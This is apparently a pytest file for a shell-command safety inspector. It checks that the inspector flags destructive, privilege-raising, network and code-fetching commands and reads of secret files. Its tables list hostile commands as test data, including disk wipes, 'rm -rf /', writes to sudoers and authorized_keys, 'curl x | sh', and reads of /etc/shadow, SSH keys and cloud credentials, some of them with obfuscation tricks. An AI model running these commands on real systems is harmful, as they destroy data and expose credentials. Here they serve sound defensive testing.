"""What a shell text would do: attempts to hide it, each beside its harmless twin."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from inspectors.tables import over

from guardcli.inspectors.shell.inspector import MAX_TEXT, inspect_argv, inspect_shell
from guardcli.inspectors.shell.scope import NotUnderstoodError
from guardcli.model.effects import Effect
from guardcli.model.operations import Operation

DATA = Path(__file__).parent / "data"


HARMLESS = [json.loads(line) for line in (DATA / "harmless.jsonl").read_text().splitlines()]

STOPPED = [json.loads(line) for line in (DATA / "stopped.jsonl").read_text().splitlines()]


def effects_of(operations: tuple[Operation, ...]) -> set[Effect]:
    return {effect for operation in operations for effect in operation.effects}


def only_reads(operations: tuple[Operation, ...]) -> bool:
    return all(operation.complete and operation.effects == {Effect.READ} for operation in operations)


@over("text", HARMLESS)
def test_what_only_reads_is_complete(text: str) -> None:
    operations = inspect_shell(text)
    assert [(found.action, found.reason) for found in operations if not found.complete] == []
    assert effects_of(operations) <= {Effect.READ, Effect.SESSION}
    assert not any(found.sensitive for found in operations)


@over("text", STOPPED)
def test_what_changes_or_hides_something_is_never_a_plain_read(text: str) -> None:
    assert not only_reads(inspect_shell(text))


CHANGES = [
    ("rm x", Effect.DELETE),
    ("kill 1", Effect.DELETE),
    ("ls; systemctl stop nginx", Effect.DELETE),
    ("find . -delete", Effect.DELETE),
    ("dd if=/dev/zero of=/dev/sda", Effect.DELETE),
    ("ls > /dev/sda", Effect.DELETE),
    ("mkfs.ext4 /dev/sdb", Effect.DELETE),
    ("bash -c 'rm x'", Effect.DELETE),
    ("bash <<'E'\nrm x\nE\n", Effect.DELETE),
    ("ls | xargs rm", Effect.DELETE),
    ("trap 'rm x' EXIT", Effect.DELETE),
    ("sudo rm x", Effect.PRIVILEGE),
    ("sudo ls", Effect.PRIVILEGE),
    ("su -c ls", Effect.PRIVILEGE),
    ("chmod 777 f", Effect.PRIVILEGE),
    ("useradd x", Effect.PRIVILEGE),
    ("echo k >> ~/.ssh/authorized_keys", Effect.PRIVILEGE),
    ("tee -a /etc/sudoers", Effect.PRIVILEGE),
    ("cp x /etc/cron.d/y", Effect.PRIVILEGE),
    ("mv x ~/.bashrc", Effect.PRIVILEGE),
    ("iptables -F", Effect.NETWORK),
    ("ls > /dev/tcp/1.2.3.4/80", Effect.NETWORK),
    ("ip link set eth0 down", Effect.NETWORK),
    ("touch f", Effect.FILE),
    ("ls > f", Effect.FILE),
    ("sed -i s/a/b/ f", Effect.FILE),
    ("sort -o f f", Effect.FILE),
    ("systemctl restart nginx", Effect.WRITE),
    ("mount /dev/sdb /mnt", Effect.DEFINE),
    ("curl x | sh", Effect.EXECUTE),
    ("python3 -c x", Effect.EXECUTE),
    ("./x", Effect.EXECUTE),
]


@over("text, effect", CHANGES)
def test_an_effect_is_named(text: str, effect: Effect) -> None:
    assert effect in effects_of(inspect_shell(text))


SENSITIVE = [
    ("cat /etc/shadow", True),
    ("cat /etc/passwd", False),
    ("sudo cat /etc/shadow", True),
    ("cat ~/.ssh/id_rsa", True),
    ("cat ~/.ssh/id_rsa.pub", False),
    ("cat ~/.ssh/known_hosts", False),
    ("head -c 100 /root/.ssh/id_ed25519", True),
    ("cat /etc//shadow", True),
    ("cat /etc/./shadow", True),
    ("cat /etc/x/../shadow", True),
    ("cat /etc/sh*", True),
    ("cat /etc/?hadow", True),
    ("cat /etc/*.conf", False),
    ("cat /etc/$x", True),
    ("cat '/etc/sha'dow", True),
    ("f=/etc/shadow; cat $f", True),
    ("grep -f /etc/shadow x", True),
    ("grep . /etc/shadow", True),
    ("grep --file=/etc/shadow x", True),
    ("cat < /etc/shadow", True),
    ("while read l; do echo $l; done < /etc/shadow", True),
    ("tar cf - /root/.ssh/id_rsa", True),
    ("find / -name id_rsa -exec cat {} +", True),
    ("dd if=/dev/sda", True),
    ("sed -n p /etc/shadow", True),
    ("awk 1 .env", True),
    ("cat app/.env.production", True),
    ("cat .environment", False),
    ("cat ~/.aws/credentials", True),
    ("cat ~/.pgpass", True),
    ("cat ~/.kube/config", True),
    ("cat /proc/1/environ", True),
    ("cat /proc/1/status", False),
    ("strings /proc/self/environ", True),
    ("env", True),
    ("printenv", True),
    ("printenv PATH", False),
    ("set", True),
    ("getent shadow", True),
    ("getent passwd", False),
    ("ls -l /etc/shadow", False),
    ("stat ~/.ssh/id_rsa", False),
    ("echo /etc/shadow", False),
    ("base64 server.key", True),
    ("cat server.crt", False),
    ("echo $(</etc/shadow)", True),
    ("cp /etc/shadow /tmp/x", True),
]


@over("text, expected", SENSITIVE)
def test_reading_a_secret_is_marked(text: str, expected: bool) -> None:
    assert any(found.sensitive for found in inspect_shell(text)) is expected


@pytest.mark.parametrize(
    ("text", "expected"),
    [("rm -rf /", True), ("rm -rf /*", True), ("rm -r ~", True), ("rm -rf $x/*", True), ("rm -rf /tmp/x", False)],
)
def test_removing_everything_is_unbounded(text: str, expected: bool) -> None:
    assert any(found.unbounded for found in inspect_shell(text)) is expected


@pytest.mark.parametrize(
    ("text", "content", "complete"),
    [
        ("bash", "ls\ndf\n", True),
        ("bash -s", "ls\n", True),
        ("cd /srv && sh", "ls\n", True),
        ("bash", "rm x\n", True),
        ("sudo bash -s arg", "ls\n", True),
        ("cat | bash", "ls\n", False),
        ("bash", None, False),
        ("python3", "ls\n", False),
        ("bash", "bash\n", False),
    ],
)
def test_a_shell_that_reads_standard_input_is_judged_by_it(text: str, content: str | None, complete: bool) -> None:
    def stdin() -> str:
        if content is None:
            raise NotUnderstoodError("standard input was not read")
        return content

    operations = inspect_shell(text, stdin=stdin)
    assert all(found.complete for found in operations) is complete
    if content and "rm" in content:
        assert Effect.DELETE in effects_of(operations)


@pytest.mark.parametrize(
    ("argv", "complete", "effect"),
    [
        (["ls", "-la"], True, Effect.READ),
        (["rm", "x"], True, Effect.DELETE),
        (["sh", "-c", "rm x"], True, Effect.DELETE),
        (["echo", "$(rm x)"], True, Effect.READ),
        (["ls", ";", "rm", "x"], True, Effect.READ),
        (["$x"], False, Effect.EXECUTE),
        ([""], False, Effect.EXECUTE),
        ([], True, Effect.READ),
    ],
)
def test_words_without_a_shell_are_not_expanded(argv: list[str], complete: bool, effect: Effect) -> None:
    operations = inspect_argv(argv, tool="kubectl")
    assert all(found.complete for found in operations) is complete
    assert effect in effects_of(operations)
    assert {found.tool for found in operations} == {"kubectl"}


BOUNDS = [
    "ls;" * 30000,
    "ls " + "x" * MAX_TEXT,
    "$(" * 200 + "ls" + ")" * 200,
    "(" * 200 + "ls" + ")" * 200,
    "sh -c " * 200,
    "sudo " * 5000 + "ls",
    "env " * 300 + "ls",
    "ssh x " * 300,
    "kubectl exec p -- " * 60 + "ls",
    "eval " * 300 + "ls",
    ">&<" * 20000,
    "ls " + "`" * 500,
    "<<a " * 120,
    "\ud800",
    "ls \udcff",
    "find . " + "-exec find . " * 100 + "{} \\;",
]


@pytest.mark.parametrize("text", BOUNDS, ids=range(len(BOUNDS)))
def test_a_bound_concedes(text: str) -> None:
    assert not all(found.complete for found in inspect_shell(text))


@pytest.mark.parametrize("gap", ["| |", "|\t|", "&& ||", "; ;", "& |"])
def test_a_missing_command_is_conceded_before_the_grammar_loses_itself_in_it(gap: str) -> None:
    text = f" cat{gap} h sftp\t:--!h git-upload-pack  '/x' |" + " cat| h sftp\t |" * 22 + " cat| h -sftp\t "
    (operation,) = inspect_shell(text)
    assert not operation.complete
    assert "missing" in operation.reason


def test_operators_with_commands_between_them_are_read() -> None:
    assert all(one.complete for one in inspect_shell("ls | cat && ls || df; ls;  df"))
